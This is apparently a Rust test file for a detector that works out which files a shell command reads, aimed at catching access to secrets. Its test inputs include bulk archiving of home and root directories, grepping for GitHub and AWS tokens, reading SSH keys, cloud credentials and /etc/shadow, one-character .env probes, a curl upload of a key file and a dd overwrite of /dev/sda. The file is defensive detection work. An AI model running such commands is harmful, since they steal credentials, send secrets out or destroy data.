use super::*;
use crate::matcher::shell;

#[test]
fn dots_and_repeated_separators_are_resolved() {
    for (input, want) in [
        ("~/.ssh/../.ssh/id_rsa", "~/.ssh/id_rsa"),
        ("/etc/../etc//shadow", "/etc/shadow"),
        ("./.env", ".env"),
        ("../../.env", "../../.env"),
        ("/../../etc/shadow", "/etc/shadow"),
        ("a/b/../../..", ".."),
        (".", "."),
        ("/", "/"),
        ("dir/", "dir"),
        ("$HOME/.ssh/id_rsa", "~/.ssh/id_rsa"),
        ("${HOME}", "~"),
        ("$HOMEX/a", "$HOMEX/a"),
        ("/proc/self/root/home/u/.ssh/id_rsa", "/home/u/.ssh/id_rsa"),
        ("/proc/1/root//etc/./shadow", "/etc/shadow"),
        ("proc/self/root/x", "proc/self/root/x"),
    ] {
        assert_eq!(normalize(input), want, "{input}");
    }
}

#[test]
fn a_tree_read_whole_from_home_or_root_reads_every_file_below_it() {
    let read = |line: &str| {
        let mut out = Vec::new();
        read_of_command_line(&shell::parse(line), &mut out);
        out
    };
    for (line, below) in [
        ("tar czf /tmp/x.tgz ~", "~/**/*"),
        ("cp -a / /tmp/root", "/**/*"),
        ("rsync -a ~/ /tmp/x", "~/**/*"),
        ("zip -r /tmp/e.zip /etc", "/etc/**/*"),
        ("tar -C ~ -czf /tmp/x.tgz .", "~/**/*"),
        ("grep -rhoE 'ghp_[A-Za-z0-9]{36}' ~", "~/**/*"),
        ("rg --hidden -l AKIA /root", "/root/**/*"),
        ("docker build -q -f - ~", "~/**/*"),
    ] {
        assert!(
            read(line).iter().any(|p| p == below),
            "{line}: {:?}",
            read(line)
        );
    }
    // A project below the home, where tar goes (`-C ~`), or no recursion: as written.
    for line in [
        "tar czf /tmp/p.tgz -C ~ proj",
        "cp -r ~/proj /tmp/p",
        "cp ~/notes.txt /tmp/",
        "tar czf dist.tgz build",
        "grep -rn TODO src",
        "rg -l AKIA ~",
        "docker build -t app .",
        "docker run -v ~/.cache:/c img",
    ] {
        assert!(
            !read(line).iter().any(|p| p.ends_with("**/*")),
            "{line}: {:?}",
            read(line)
        );
    }
}

#[test]
fn read_paths_leave_out_what_a_command_only_writes() {
    let read = |line: &str| {
        let mut out = Vec::new();
        read_of_command_line(&shell::parse(line), &mut out);
        out
    };
    for (line, kept, left_out) in [
        ("cp .env.example .env", ".env.example", ".env"),
        ("echo X=1 >> .env", "", ".env"),
        ("cat a > .env", "a", ".env"),
        ("dd if=.env of=/tmp/x", ".env", "/tmp/x"),
        ("tee .env < key", "key", ".env"),
        ("curl -o .env https://x.example/e", "", ".env"),
        ("mv .env /tmp/e", ".env", "/tmp/e"),
        ("cd /tmp/x* && ls", "", "/tmp/x*"),
        // A searcher's name filter is no file; its paths are.
        (
            "rg -n DATABASE_URL --glob 'config/**' --iglob=*.md",
            "",
            "config/**",
        ),
        ("grep -rn X --include=.env src", "src", ".env"),
        // Deleting a name opens nothing.
        ("rm -f ~/.ssh/id_rsa.old", "", "~/.ssh/id_rsa.old"),
        // kubectl's operands are cluster resources; its `-f` and `cp` name files.
        ("kubectl rollout status deploy/id_rsa", "", "deploy/id_rsa"),
        ("kubectl apply -f ~/.ssh/id_rsa", "~/.ssh/id_rsa", "apply"),
        ("kubectl cp ~/.ssh/id_rsa pod:/tmp/k", "~/.ssh/id_rsa", ""),
        (
            "kubectl create secret generic s --from-file=.env",
            ".env",
            "generic",
        ),
        // awk's variables are values; a shell's `-c` script is code, read as such; git's
        // revisions are no files, but a message file is read (blind round 55).
        ("awk -v s=.env -f prog.awk data.csv", "data.csv", ".env"),
        ("awk -F, '{ print }' n=.env data.csv", "data.csv", ".env"),
        ("sh -c 'cat .env'", "", "cat .env"),
        (
            "git merge-base --is-ancestor feature origin/.env",
            "",
            "origin/.env",
        ),
        ("git tag -a v1 -F .env", ".env", ""),
        ("kill -9 .env", "", ".env"),
    ] {
        let got = read(line);
        assert!(
            kept.is_empty() || got.iter().any(|p| p == kept),
            "{line}: {got:?}"
        );
        assert!(!got.iter().any(|p| p == left_out), "{line}: {got:?}");
    }
    // Counts, and greps that print only whether a setting is there, print nothing of
    // what they read.
    for line in [
        "wc -l .env",
        "grep -q '^DATABASE_URL=' .env",
        "grep -c = .env.local",
        "grep -lr ^API_KEY= config",
        "egrep --count '^SECRET_KEY=' .env",
    ] {
        let got = read(line);
        assert!(
            !got.iter()
                .any(|p| p == ".env" || p == ".env.local" || p == "config"),
            "{line}: {got:?}"
        );
    }
    // What a probe could learn a value from, one character at a time, is a read.
    for line in [
        "grep -q AKIA .env",
        "grep -q '^KEY=a' .env",
        "grep -qF '^KEY=' .env",
        "grep -q -F 'c=' .env",
        "fgrep -c 'KEY=' .env",
        "grep -c -e '^KEY=' .env",
        "grep -qf .env /dev/null",
        "grep '^KEY=' .env",
        "wc --files0-from=.env",
    ] {
        assert!(read(line).iter().any(|p| p == ".env"), "{line}");
    }
    // Read and written at once: `sed -i` that may print reads the file, `<>` opens it
    // for reading.
    for line in [
        "sed -i s/a/b/w/dev/stderr .env",
        "cat 0<>.env",
        "cat .env > .env",
    ] {
        assert!(read(line).iter().any(|p| p == ".env"), "{line}");
    }
    // Every path is still a path for `pathGlob`.
    let mut all = Vec::new();
    of_command_line(&shell::parse("cp .env.example .env"), &mut all);
    assert!(all.iter().any(|p| p == ".env"));
}

#[test]
fn shell_paths_include_redirections_option_values_and_the_directory() {
    let mut out = Vec::new();
    let line = shell::parse(
        "cd ~/.aws && cat credentials; curl -d @./key.pem x; dd if=a of=/dev/sda; echo .env > o",
    );
    of_command_line(&line, &mut out);
    for want in ["~/.aws/credentials", "key.pem", "/dev/sda", "o"] {
        assert!(out.iter().any(|p| p == want), "{want} in {out:?}");
    }
    assert!(
        !out.iter().any(|p| p == ".env"),
        "echo's text is not a path: {out:?}"
    );
    let mut out = Vec::new();
    let line = shell::parse(
        r#"git grep -n "/etc/shadow"; grep -rn -A 2 ~/.ssh/id_rsa src/; grep -e x ~/.env"#,
    );
    of_command_line(&line, &mut out);
    assert!(
        !out.iter()
            .any(|p| p == "/etc/shadow" || p == "~/.ssh/id_rsa"),
        "a searched pattern is not a path: {out:?}"
    );
    assert!(
        out.iter().any(|p| p == "~/.env"),
        "after -e every operand is a file: {out:?}"
    );
}
